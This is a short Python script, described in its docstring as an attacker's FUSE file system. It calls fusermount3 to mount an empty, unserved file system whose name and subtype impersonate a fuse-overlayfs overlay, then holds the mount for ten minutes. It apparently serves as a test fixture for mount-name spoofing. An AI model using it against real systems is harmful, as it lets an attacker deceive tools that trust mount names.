"""An attacker's FUSE file system that has the name of an environment's overlay; a program, run as the attacker.

usage: fuse.py SOURCE DIRECTORY

fusermount3(1) lets everybody choose name and subtype. Prints "ready" once it is mounted, and keeps it until its end;
nobody serves it.
"""

from __future__ import annotations

import os
import socket
import subprocess
import sys
import time


def main(source: str, directory: str) -> None:
    """Run until killed."""
    ours, its = socket.socketpair()
    options = f"fsname={source},subtype=fuse-overlayfs"
    command = ["fusermount3", "-o", options, "--", directory]
    variables = os.environ | {"_FUSE_COMMFD": str(its.fileno())}
    subprocess.run(command, env=variables, pass_fds=[its.fileno()], check=True)
    _message, descriptors, _flags, _address = socket.recv_fds(ours, 1, 1)
    assert descriptors
    print("ready", flush=True)
    time.sleep(600)


if __name__ == "__main__":
    main(*sys.argv[1:])
